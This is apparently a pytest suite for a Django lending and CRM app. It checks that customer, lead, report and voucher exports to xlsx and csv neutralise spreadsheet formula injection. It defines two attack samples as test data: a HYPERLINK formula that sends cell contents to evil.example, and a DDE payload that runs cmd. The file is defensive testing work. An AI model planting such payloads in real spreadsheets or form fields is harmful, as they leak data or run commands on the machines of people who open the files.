"""Issue 16 #4: spreadsheet formula injection. Every export goes through the one writer
(``credo.core.spreadsheet``): text starting with = + - @ tab CR is never a formula (xlsx: a
quote-prefixed text cell; csv: a leading apostrophe) while numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from urllib.parse import quote

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from openpyxl import load_workbook

from credo.core.customfields.models import CustomField
from credo.customers import services as customer_services
from credo.customers.exporting import export_xlsx
from credo.customers.models import Customer
from credo.leads.models import Lead
from credo.reports.datasets import Result, run_query
from credo.reports.exporting import to_xlsx
from tests.customers.conftest import make_id, make_uscc
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
TRIGGERS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1"]


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [cell for row in wb.active.iter_rows() for cell in row]


def _assert_no_formula(data: bytes) -> None:
    formulas = [c.coordinate for c in _cells(data) if c.data_type == "f"]
    assert formulas == []


def _cell_with(data: bytes, value):
    matches = [c for c in _cells(data) if c.value == value]
    assert matches, value
    return matches[0]


# --- the shared writer --------------------------------------------------------------------------
@pytest.mark.parametrize("value", TRIGGERS)
def test_csv_value_prefixes_formula_text(value):
    from credo.core import spreadsheet

    assert spreadsheet.csv_value(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+86", "-3", 5, Decimal("-1.5"), None, "abc", ""])
def test_csv_value_leaves_numbers_and_plain_text(value):
    from credo.core import spreadsheet

    assert spreadsheet.csv_value(value) == value


def test_xlsx_writer_text_cells_and_numeric_numbers():
    from openpyxl import Workbook

    from credo.core import spreadsheet

    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("s") if write_only else wb.active
        spreadsheet.append(
            ws,
            [*TRIGGERS, -1234.5, Decimal("-0.01"), "普通文本"],
            number_formats=[""] * 7 + ["0.00"],
        )
        data = spreadsheet.workbook_bytes(wb)
        wb2 = load_workbook(io.BytesIO(data))
        row = next(wb2.worksheets[-1].iter_rows())
        for cell, value in zip(row[:7], TRIGGERS, strict=True):
            assert cell.data_type == "s" and cell.value == value and cell.quotePrefix
        assert row[7].data_type == "n" and row[7].value == -1234.5
        assert row[7].number_format == "0.00"
        assert row[8].data_type == "n" and row[8].value == -0.01
        assert row[9].value == "普通文本" and not row[9].quotePrefix


# --- customers ----------------------------------------------------------------------------------
def test_customer_export_keeps_injected_text_as_text(owner):
    CustomField.objects.create(entity="customer", key="note", label="=备注", field_type="text")
    customer_services.customer_create(
        actor=owner,
        data={
            "kind": "individual",
            "name": "@王五",
            "id_number": make_id(41),
            "phone": "13835112345",
            "address": HYPERLINK,
            "employer": DDE,
            "region_code": "140105",
        },
        custom={"note": "+1+1"},
    )
    customer_services.customer_create(
        actor=owner,
        data={
            "kind": "enterprise",
            "name": "晋商公司",
            "uscc": make_uscc(41),
            "registered_capital": "5000000",
        },
    )
    data = export_xlsx(Customer.objects.all(), UserFactory(is_superuser=True))
    _assert_no_formula(data)
    for value in (HYPERLINK, DDE, "@王五", "+1+1", "=备注"):
        cell = _cell_with(data, value)
        assert cell.data_type == "s" and cell.quotePrefix, value
    capital = _cell_with(data, 5000000)
    assert capital.data_type == "n" and capital.number_format == "#,##0.00"


def test_customer_export_view_is_safe(client, owner):
    owner.user_permissions.add(
        *Permission.objects.filter(
            content_type__app_label="customers",
            codename__in=["view_customer", "export_customers"],
        )
    )
    customer_services.customer_create(
        actor=owner,
        data={
            "kind": "individual",
            "name": "赵六",
            "region_code": "140105",
            "id_number": make_id(42),
            "phone": "13835112346",
            "address": HYPERLINK,
            "employer": DDE,
        },
    )
    client.force_login(owner)
    resp = client.get(reverse("customers:export"))
    assert resp.status_code == 200
    _assert_no_formula(resp.content)
    assert _cell_with(resp.content, DDE).data_type == "s"


def test_customer_import_template_custom_label_is_text():
    from credo.customers.importing import template_xlsx

    CustomField.objects.create(entity="customer", key="x", label="=1+1", field_type="text")
    data = template_xlsx()
    _assert_no_formula(data)
    assert _cell_with(data, "=1+1").data_type == "s"


def test_lead_import_template_has_no_formula():
    from credo.leads.importing import template_xlsx

    _assert_no_formula(template_xlsx())


# --- leads (anonymous web form) → report export -------------------------------------------------
def test_anonymous_lead_campaign_exported_as_text(client, owner):
    url = reverse("lead_forms:lead") + "?campaign=" + quote(HYPERLINK)
    resp = client.post(url, {"name": "张三", "phone": "13912345678", "region_code": "140105"})
    assert resp.status_code == 200
    assert Lead.objects.get().campaign == HYPERLINK
    admin = UserFactory(is_superuser=True)
    result = run_query(
        admin, {"dataset": "leads", "dimensions": ["campaign"], "measures": ["count"]}
    )
    data = to_xlsx(result, "线索")
    _assert_no_formula(data)
    assert _cell_with(data, HYPERLINK).quotePrefix
    assert _cell_with(data, 1).data_type == "n"


# --- reports ------------------------------------------------------------------------------------
def test_report_xlsx_text_dimension_and_negative_money_measure():
    result = Result(
        columns=[
            {"key": "name", "label": "=名称", "type": "dimension", "fmt": ""},
            {"key": "amount", "label": "金额", "type": "measure", "fmt": "money"},
        ],
        rows=[{"name": DDE, "amount": -12345}, {"name": "-负数", "amount": 500}],
    )
    data = to_xlsx(result, "报表")
    _assert_no_formula(data)
    assert _cell_with(data, DDE).data_type == "s"
    assert _cell_with(data, "-负数").quotePrefix
    assert _cell_with(data, "=名称").data_type == "s"
    money = _cell_with(data, -123.45)
    assert money.data_type == "n" and money.number_format == "#,##0.00"


# --- accounting vouchers (CSV) ------------------------------------------------------------------
def test_voucher_csv_neutralizes_memo_keeps_amounts(monkeypatch):
    from credo.lending import accounting

    rows = [
        ["2026-01-15", "1", HYPERLINK, "1303", "@贷款", "-120.50", "", "L-1"],
        ["2026-01-15", "1", "放款", "100201", "银行存款", "", "120.50", "L-1"],
    ]
    monkeypatch.setattr(accounting, "voucher_rows", lambda date_from, date_to: rows)
    text = accounting.voucher_csv(dt.date(2026, 1, 1), dt.date(2026, 1, 31))
    assert text.startswith("\ufeff")
    parsed = list(csv.reader(io.StringIO(text[1:])))
    assert parsed[0] == accounting.HEADER
    assert parsed[1][2] == "'" + HYPERLINK and parsed[1][4] == "'@贷款"
    assert parsed[1][5] == "-120.50" and parsed[2][6] == "120.50"
    assert parsed[2][2] == "放款"
